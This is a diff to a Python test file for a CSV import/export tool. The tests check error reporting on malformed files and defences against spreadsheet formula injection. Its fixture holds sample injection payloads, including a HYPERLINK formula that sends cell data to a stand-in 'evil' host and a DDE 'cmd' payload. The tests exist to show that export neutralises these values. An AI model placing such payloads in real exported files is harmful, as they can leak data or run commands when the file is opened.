@@ -3,12 +3,15 @@ line numbers for bad rows, nothing stored from a failed file, and a round trip."
 
 from __future__ import annotations
 
+import csv
+import io
 from pathlib import Path
 
 import pytest
 
 from tests.conftest import IP_KEY, SECRET
 from wom import create_app
+from wom.store import ingest
 
 CUSTOMERS = """id,name,email,acquired_at
 ann,Ann Åberg,ann@example.org,2026-01-01T00:00:00Z
@@ -140,14 +143,10 @@ def test_export_writes_what_import_reads(loaded, kind):
     assert header.split(",")[0] in {"id", "from", "type", "customer"}
 
 
-def test_a_round_trip_gives_the_same_people_and_credits(loaded, tmp_path, db):
-    folder = tmp_path / "exported"
-    folder.mkdir()
-    for kind in ("customers", "mentions", "referrals", "purchases"):
-        out = folder / f"{kind}.csv"
-        result = loaded.invoke(args=["export", kind, "-o", str(out)])
-        assert result.exit_code == 0, result.output
-    copy = create_app(
+@pytest.fixture
+def elsewhere(tmp_path):
+    """A second app on its own database, to import what the first exported."""
+    app = create_app(
         {
             "TESTING": True,
             "DATABASE": str(tmp_path / "copy.db"),
@@ -156,15 +155,33 @@ def test_a_round_trip_gives_the_same_people_and_credits(loaded, tmp_path, db):
             "WOM_ANALYTICS_BACKGROUND": False,
         }
     )
-    runner = copy.test_cli_runner()
-    try:
-        for kind in ("customers", "mentions", "referrals", "purchases"):
-            path = str(folder / f"{kind}.csv")
-            result = runner.invoke(args=["import", path, "--kind", kind])
-            assert result.exit_code == 0, result.output
-        assert snapshot(copy.extensions["wom.store"].reader()) == snapshot(db)
-    finally:
-        copy.extensions["wom.store"].close()
+    yield app
+    app.extensions["wom.store"].close()
+
+
+KINDS = ("customers", "mentions", "referrals", "purchases")
+
+
+def copy_over(runner, folder: Path, elsewhere) -> None:
+    """Export every kind from ``runner``'s app and import it into ``elsewhere``."""
+    folder.mkdir()
+    for kind in KINDS:
+        out = folder / f"{kind}.csv"
+        result = runner.invoke(args=["export", kind, "-o", str(out)])
+        assert result.exit_code == 0, result.output
+    for kind in KINDS:
+        path = str(folder / f"{kind}.csv")
+        result = elsewhere.test_cli_runner().invoke(
+            args=["import", path, "--kind", kind]
+        )
+        assert result.exit_code == 0, result.output
+
+
+def test_a_round_trip_gives_the_same_people_and_credits(
+    loaded, tmp_path, db, elsewhere
+):
+    copy_over(loaded, tmp_path / "exported", elsewhere)
+    assert snapshot(elsewhere.extensions["wom.store"].reader()) == snapshot(db)
 
 
 def snapshot(db) -> dict:
@@ -197,3 +214,186 @@ def test_import_refuses_while_the_server_holds_the_lock(app, write, db_path: Pat
         assert "Stop it first" in result.output
     finally:
         server.close()
+
+
+def refused(result) -> bool:
+    """The command failed with a message, not a traceback."""
+    return result.exit_code == 1 and isinstance(result.exception, SystemExit)
+
+
+@pytest.mark.parametrize(
+    ("text", "line"),
+    [
+        ('id,name\nc1,"Ann\nc2,Bob\nc3,Cy\n', "line 2"),
+        ('id,name\nc1,Ann\nc2,"Bob"by\nc3,Cy\n', "line 3"),
+    ],
+    ids=["never closed", "text after the closing quote"],
+)
+def test_a_stray_quote_stops_the_file_at_its_line(runner, write, db, text, line):
+    result = imported(runner, write("quoted.csv", text))
+    assert refused(result), result.output
+    assert f"{line}, row: " in result.output and "quote" in result.output
+    assert count(db, "people") == 0
+
+
+@pytest.mark.parametrize(
+    ("text", "where"),
+    [
+        (
+            "id,name,email,acquired_at\n"
+            "c0,Zed,z@example.org,2026-01-01T00:00:00Z\n"
+            "c1,Ann,bad-email,\n",
+            ["line 3, email:"],
+        ),
+        (
+            "id,name,email\nc1,Ann,ann@example.org\nc2,Bob,bad-email\n",
+            ["line 3, email:"],
+        ),
+        (
+            "id,name,email,acquired_at\n"
+            "c1,Ann,bad-email,\n"
+            "c2,Bob,bob@example.org,2026-01-01T00:00:00Z\n"
+            "c3,Cy,cy@example.org,soon\n",
+            ["line 2, email:", "line 4, acquired_at:"],
+        ),
+    ],
+    ids=["after a dated row", "no row has a time", "both kinds of row"],
+)
+def test_customers_without_a_time_are_reported_at_their_own_line(
+    runner, write, db, text, where
+):
+    result = imported(runner, write("customers.csv", text))
+    assert refused(result), result.output
+    for problem in where:
+        assert problem in result.output
+    assert count(db, "people") == 0
+
+
+@pytest.mark.parametrize(
+    ("data", "message"),
+    [
+        (b"id,name\nc1,Ann\nc2,Bo\xffb\n", "line 3, file: not UTF-8"),
+        (b'id,name\nc1,"' + b"A" * 140_000 + b'"\n', "line 2, row: a cell is longer"),
+        (
+            b"id,name\nc1,Ann\nc2," + b"B" * 140_000 + b"\n",
+            "line 3, row: a cell is longer",
+        ),
+    ],
+    ids=["bad UTF-8", "long quoted cell", "long plain cell"],
+)
+def test_a_file_the_csv_reader_cannot_take(runner, tmp_path, db, data, message):
+    path = tmp_path / "odd.csv"
+    path.write_bytes(data)
+    result = imported(runner, str(path))
+    assert refused(result), result.output
+    assert message in result.output
+    assert count(db, "people") == 0
+
+
+def test_a_byte_order_mark_and_windows_line_ends_are_read(runner, tmp_path, db):
+    path = tmp_path / "excel.csv"
+    path.write_bytes(b"\xef\xbb\xbfid,name\r\nc1,Ann\r\nc2,Bob\r\n")
+    result = imported(runner, str(path))
+    assert result.exit_code == 0, result.output
+    assert count(db, "people") == 2
+
+
+FORMULAS = {
+    '=HYPERLINK("http://evil/?"&A2,"x")': "=c0@example.org",
+    "+1 555 0100": "+c1@example.org",
+    "-ann": "-c2@example.org",
+    "@ann": "c3@example.org",
+}
+
+
+@pytest.fixture
+def formulas(app):
+    """People, a referral and a purchase whose text starts like a formula."""
+    ingest(
+        app.extensions["wom.store"],
+        [
+            {
+                "type": "signup",
+                "customer": f"c{n}",
+                "name": name,
+                "email": email,
+                "at": "2026-01-01T00:00:00Z",
+            }
+            for n, (name, email) in enumerate(FORMULAS.items())
+        ]
+        + [
+            {
+                "type": "referral",
+                "from": "c0",
+                "to": "c1",
+                "at": "2026-01-02T00:00:00Z",
+                "channel": "=cmd|' /C calc'!A0",
+                "event_id": "@sum(1+1)",
+            },
+            {
+                "type": "mention",
+                "from": "c2",
+                "to": "c3",
+                "at": "2026-01-02T00:00:00Z",
+                "channel": "+radio",
+                "event_id": "=m1",
+            },
+            {
+                "type": "purchase",
+                "customer": "c1",
+                "value": 0,
+                "at": "2026-01-03T00:00:00Z",
+                "event_id": "-2+3",
+            },
+        ],
+        source="test",
+    )
+    return app.test_cli_runner()
+
+
+@pytest.mark.parametrize("kind", KINDS)
+def test_export_makes_no_cell_a_formula(formulas, kind):
+    result = formulas.invoke(args=["export", kind])
+    assert result.exit_code == 0, result.output
+    cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_export_quotes_a_formula_once(formulas):
+    result = formulas.invoke(args=["export", "customers"])
+    assert "c2,'-ann,'-c2@example.org," in result.stdout
+    assert 'c0,"\'=HYPERLINK(""http' in result.stdout
+
+
+def test_a_round_trip_keeps_text_that_looks_like_a_formula(
+    formulas, tmp_path, app, elsewhere
+):
+    copy_over(formulas, tmp_path / "exported", elsewhere)
+    assert texts(elsewhere.extensions["wom.store"].reader()) == texts(
+        app.extensions["wom.store"].reader()
+    )
+
+
+def texts(db) -> list:
+    return db.execute(
+        "SELECT name, email FROM identities UNION ALL "
+        "SELECT channel, event_id FROM events WHERE type != 'signup' ORDER BY 1, 2"
+    ).fetchall()
+
+
+@pytest.mark.parametrize(
+    ("cell", "name"),
+    [
+        ("'=1+1", "=1+1"),
+        ("'-ann", "-ann"),
+        ("'@ann", "@ann"),
+        ("''=1+1", "'=1+1"),
+        ("'Brien", "'Brien"),
+        ("Ann '=x", "Ann '=x"),
+    ],
+)
+def test_import_drops_only_the_quote_export_added(runner, write, db, cell, name):
+    text = f"id,name,acquired_at\nc1,{cell},2026-01-01T00:00:00Z\n"
+    result = imported(runner, write("customers.csv", text))
+    assert result.exit_code == 0, result.output
+    assert db.execute("SELECT name FROM identities").fetchone()[0] == name
